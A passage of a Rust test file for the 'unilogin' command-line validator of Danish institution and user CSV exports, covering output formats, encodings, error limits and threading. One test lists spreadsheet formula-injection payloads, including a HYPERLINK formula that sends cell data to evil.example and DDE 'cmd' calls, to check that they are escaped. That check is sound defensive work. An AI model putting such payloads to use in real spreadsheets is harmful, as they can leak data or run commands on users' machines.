    assert_eq!(json["summary"]["rows"], 1);
    assert_eq!(
        json["summary"]["unknown_columns"][0]["suggestion"], "cvr",
        "{json}"
    );
    let register = file(
        "register-names.csv",
        "cvrNummer,pNummer,dagtilbudsNavn,vejNavn,husNummer,postNummer,byNavn,\
                 kommuneKode_Tekst,email,telefonNummer,lovgrundlag,institutionstype\n\
                 13585628,1029829825,Vuggestuen Solsikken,Skolevej,4,9600,Aars,Vesthimmerland,\
                 kontakt@solsikken.dk,98 62 12 34,stk. 5,6010\n",
    );
    let run = validate("request", &[], &register);
    assert_eq!(run.code, 0, "{run:?}");
}

#[test]
fn jsonl_output_has_one_problem_per_line_and_the_summary_last() {
    let run = validate(
        "register",
        &["--format", "jsonl", "--lang", "en"],
        Path::new(&example("register.csv")),
    );
    assert_eq!(run.code, 1, "{run:?}");
    let lines: Vec<Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 6);
    assert_eq!(lines[0]["type"], "p_number_checksum");
    assert_eq!(lines[0]["loc"], json!([3, "p_number"]));
    assert_eq!(lines[0]["line"], 5);
    assert_eq!(lines[5]["summary"]["rows"], 13);
    assert_eq!(lines[5]["summary"]["rows_with_problems"], 5);
}

#[test]
fn csv_output_is_pure_csv_and_the_summary_goes_to_stderr() {
    let run = validate(
        "register",
        &["--format", "csv", "--lang", "en"],
        Path::new(&example("register.csv")),
    );
    assert_eq!(run.code, 1, "{run:?}");
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    assert_eq!(
        reader.headers().unwrap(),
        vec!["row", "line", "field", "type", "message", "input"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    assert_eq!(
        rows[1],
        vec![
            "5",
            "7",
            "phone",
            "phone_multiple",
            "Give one phone number, not several",
            "75123456 / 20456789"
        ]
    );
    assert!(
        run.stderr
            .ends_with("13 rows read, 5 rows with problems, 5 problems\n"),
        "{run:?}"
    );
}

#[test]
fn excel_csv_is_the_same_table_with_semicolons_a_bom_and_crlf() {
    let path = Path::new(&example("register.csv")).to_owned();
    let plain = validate("register", &["--format", "csv", "--lang", "en"], &path);
    let excel = validate(
        "register",
        &["--format", "excel-csv", "--lang", "en"],
        &path,
    );
    assert_eq!(excel.code, 1, "{excel:?}");
    assert_eq!(excel.stderr, plain.stderr);
    let body = excel
        .stdout
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark first");
    assert!(
        body.starts_with("row;line;field;type;message;input\r\n"),
        "{body}"
    );
    assert!(body.ends_with("\r\n"));
    assert_eq!(body.matches('\n').count(), body.matches("\r\n").count());
    let records = |text: &str, delimiter: u8| -> Vec<csv::StringRecord> {
        csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(records(body, b';'), records(&plain.stdout, b','));
    assert!(!plain.stdout.contains('\r') && !plain.stdout.starts_with('\u{feff}'));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_read_back_as_text() {
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "=1+2\";=1+2",
    ];
    let stdin: String = formulas
        .iter()
        .map(|f| json!({ "cvr": f }).to_string() + "\n")
        .collect();
    for (format, delimiter) in [("csv", b','), ("excel-csv", b';')] {
        let run = exec(
            &["validate", "--kind", "request", "--format", format, "-"],
            Some(&stdin),
        );
        assert_eq!(run.code, 1, "{run:?}");
        let inputs: Vec<String> = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(run.stdout.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .map(Result::unwrap)
            .filter(|r| &r[2] == "cvr")
            .map(|r| r[5].to_owned())
            .collect();
        let expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
        assert_eq!(inputs, expected, "{format}");
    }
}

#[test]
fn max_errors_stops_reading_and_says_so() {
    let path = Path::new(&example("register.csv")).to_owned();
    let run = validate("register", &["--max-errors", "2", "--lang", "en"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run
        .stdout
        .contains("Stopped after 2 problems (--max-errors); the rest of the file was not read"));
    assert_eq!(
        run.last_line(),
        "6 rows read, 2 rows with problems, 2 problems"
    );
    let json = validate(
        "register",
        &["--max-errors", "1", "--format", "json"],
        &path,
    )
    .json();
    assert_eq!(json["problems"].as_array().unwrap().len(), 1);
    assert_eq!(json["summary"]["complete"], false);
    assert_eq!(json["summary"]["max_errors_reached"], true);
}

#[test]
fn an_input_error_is_named_in_the_json_output_too() {
    let path = file(
        "ragged-json.csv",
        format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n{VALID_REQUEST},extra\n"),
    );
    let run = validate("request", &["--format", "json", "--lang", "en"], &path);
    assert_eq!(run.code, 2, "{run:?}");
    let json = run.json();
    assert_eq!(json["error"]["type"], "csv_row_length");
    assert_eq!(json["error"]["loc"], json!([]));
    assert_eq!(json["error"]["input"], Value::Null);
    assert_eq!(json["error"]["line"], 3);
    assert_eq!(
        json["error"]["ctx"],
        json!({"line": 3, "row": 1, "fields": 13, "expected": 12})
    );
    assert_eq!(json["summary"]["rows"], 1);
    assert!(run.stderr.contains("[csv_row_length]"), "{run:?}");

    let run = validate("request", &["--format", "jsonl"], Path::new("missing.csv"));
    assert_eq!(run.code, 2, "{run:?}");
    let last: Value = serde_json::from_str(run.stdout.lines().last().unwrap()).unwrap();
    assert_eq!(last["error"]["type"], "file_unreadable");
    assert_eq!(last["error"]["ctx"], json!({"reason": "not_found"}));
}

#[test]
fn utf16_and_workbooks_are_refused_with_advice() {
    let mut utf16 = vec![0xff, 0xfe];
    for unit in format!("{REGISTER_HEADER}\n").encode_utf16() {
        utf16.extend(unit.to_le_bytes());
    }
    let path = file("unicode-text.csv", utf16);
    let run = validate("register", &["--lang", "en"], &path);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("Line 1 is not text in UTF-8 or Windows-1252 (UTF-16"),
        "{run:?}"
    );
    assert!(run.stderr.contains("[encoding_invalid]"), "{run:?}");
}

#[test]
fn standard_input_can_be_csv() {
    let input = format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n");
    let run = exec(
        &[
            "validate",
            "--kind",
            "request",
            "--input-format",
            "csv",
            "--format",
            "json",
            "-",
        ],
        Some(&input),
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.json()["summary"]["syntax"], "csv");
}

#[test]
fn the_p_number_checksum_can_be_turned_off() {
    let path = file(
        "p-number-policy.csv",
        format!(
            "{REGISTER_HEADER}\n{}\n",
            register_row("G18064", "1029829824")
        ),
    );
    assert_eq!(validate("register", &[], &path).code, 1);
    let run = validate("register", &["--no-p-number-checksum"], &path);
    assert_eq!(run.code, 0, "{run:?}");
}

#[test]
fn the_progress_bar_is_drawn_only_when_asked_or_on_a_terminal() {
    let mut text = format!("{REGISTER_HEADER}\n");
    for _ in 0..200 {
        text.push_str(&register_row("G18062", "1029829825"));
        text.push('\n');
    }
    let path = file("progress.csv", text);
    // Standard error is a pipe here: no bar unless asked for.
    let quiet = validate("register", &["--lang", "en"], &path);
    assert_eq!(quiet.code, 0, "{quiet:?}");
    assert!(quiet.stderr.is_empty(), "{quiet:?}");
    let drawn = validate("register", &["--progress", "always", "--lang", "en"], &path);
    assert_eq!(drawn.code, 0, "{drawn:?}");
    assert!(drawn.stderr.starts_with("\r["), "{drawn:?}");
    assert!(drawn.stderr.contains("% 1 rows"), "{drawn:?}");
    assert!(drawn.stderr.ends_with("\r\u{1b}[2K"), "{drawn:?}");
    assert_eq!(drawn.stdout, quiet.stdout);
}

#[test]
fn checking_threads_do_not_change_the_output() {
    let mut text = format!("{REGISTER_HEADER}\n");
    for i in 0..3000 {
        let p_number = if i % 7 == 0 {
            "1029829824"
        } else {
            "1029829825"
        };
        text.push_str(&register_row(&format!("G{:05}", 10000 + i), p_number));
        text.push('\n');
        if i % 500 == 0 {
            text.push('\n');
        }
    }
    let path = file("threads.csv", &text);
    for extra in [
        &["--format", "json"][..],
        &["--format", "text", "--max-errors", "37"],
        &["--format", "jsonl", "--max-errors", "1"],
        &["--format", "csv"],
    ] {
        let one = validate("register", &[extra, &["--jobs", "1"]].concat(), &path);
        assert_eq!(one.code, 1, "{one:?}");
        for jobs in ["2", "5"] {
            let many = validate("register", &[extra, &["--jobs", jobs]].concat(), &path);
            assert_eq!(many.code, one.code, "{extra:?} --jobs {jobs}");
            assert_eq!(many.stdout, one.stdout, "{extra:?} --jobs {jobs}");
            assert_eq!(many.stderr, one.stderr, "{extra:?} --jobs {jobs}");
        }
    }
    // An input error after many rows: the rows before it, then the error.
    let broken = format!("{text}G1;too;few\n");
    let path = file("threads-broken.csv", broken);
    let one = validate("register", &["--format", "json", "--jobs", "1"], &path);
    let many = validate("register", &["--format", "json", "--jobs", "3"], &path);
    assert_eq!(one.code, 2);
    assert_eq!(many.stdout, one.stdout);
    assert_eq!(many.json()["summary"]["rows"], 3000);
    assert_eq!(many.json()["error"]["type"], "csv_row_length");
}

#[test]
fn example_register_saved_as_windows_1252_gives_the_same_report() {
    let utf8 = run_example_text("register", &example("register.csv"), "en");
    let ansi = run_example_text("register", &example("register-windows-1252.csv"), "en");
    assert_eq!(ansi.code, 1, "{ansi:?}");
    let bytes = std::fs::read(example("register-windows-1252.csv")).unwrap();
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "the example is not UTF-8"
    );
    assert!(bytes.windows(2).any(|w| w == b"\r\n"));
    let without_encoding: Vec<&str> = ansi
        .stdout
        .lines()
        .filter(|l| *l != "Encoding: Windows-1252 (from line 2)")
        .collect();
    assert_eq!(without_encoding, utf8.stdout.lines().collect::<Vec<_>>());
    assert!(ansi.stdout.contains("Encoding: Windows-1252 (from line 2)"));
    let json = validate(
        "register",
        &["--format", "json"],
        Path::new(&example("register-windows-1252.csv")),
    );
    assert_eq!(json.json()["summary"]["encoding"], "windows-1252");
    assert_eq!(json.json()["summary"]["delimiter"], ";");
}

// ---- release (issue 14) ----------------------------------------------------------------------

#[test]
fn version_is_the_workspace_version() {
    let run = exec(&["--version"], None);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(
        run.stdout.trim(),
        format!("unilogin {}", env!("CARGO_PKG_VERSION"))
    );
    // Every subcommand reports the same version.
    let sub = exec(&["validate", "--version"], None);
    assert_eq!(
        sub.stdout.trim(),
        format!("unilogin-validate {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn a_register_export_checked_as_a_user_roster_names_the_kind_its_header_looks_like() {
    // Issue 14: instead of a `missing` problem for every user field of every row.
    let example = PathBuf::from(example("register.csv"));
    let run = validate("user", &["--lang", "en"], &example);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("[csv_kind_mismatch]"), "{run:?}");
    assert!(
        run.stderr.contains("looks like a register file, not user"),
        "{run:?}"
    );
    assert!(run.stdout.is_empty(), "{run:?}");
    let json = validate("user", &["--format", "json"], &example);
    assert_eq!(json.code, 2, "{json:?}");
    assert_eq!(json.json()["error"]["type"], "csv_kind_mismatch");
    assert_eq!(json.json()["error"]["ctx"]["looks_like"], "register");
    assert_eq!(json.problems(), Vec::<Value>::new());
    // The same file as the register export it is is read.
    assert_ne!(validate("register", &[], &example).code, 2);
}

#[test]
fn completions_are_printed_for_every_shell_and_name_the_subcommands() {
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let run = exec(&["completions", shell], None);
        assert_eq!(run.code, 0, "{shell}: {run:?}");
        for sub in ["validate", "plan", "check", "password"] {
            assert!(run.stdout.contains(sub), "{shell} completions lack {sub}");
        }
        // The values of `--kind` are completed too.
        assert!(
            run.stdout.contains("register"),
            "{shell} completions lack --kind's values"
        );
    }
    let bad = exec(&["completions", "tcsh"], None);
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad.stderr.contains("tcsh"), "{bad:?}");
}

#[test]
fn the_man_page_is_roff_for_the_whole_command() {
    let run = exec(&["man"], None);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with(".ie \\n(.g .ds Aq"),
        "{}",
        &run.stdout[..80]
    );
    assert!(run.stdout.contains(".TH unilogin 1"), "{run:?}");
    assert!(run.stdout.contains(env!("CARGO_PKG_VERSION")));
    for sub in ["validate", "plan", "check", "password", "completions"] {
        assert!(run.stdout.contains(sub), "the man page lacks {sub}");
    }
}
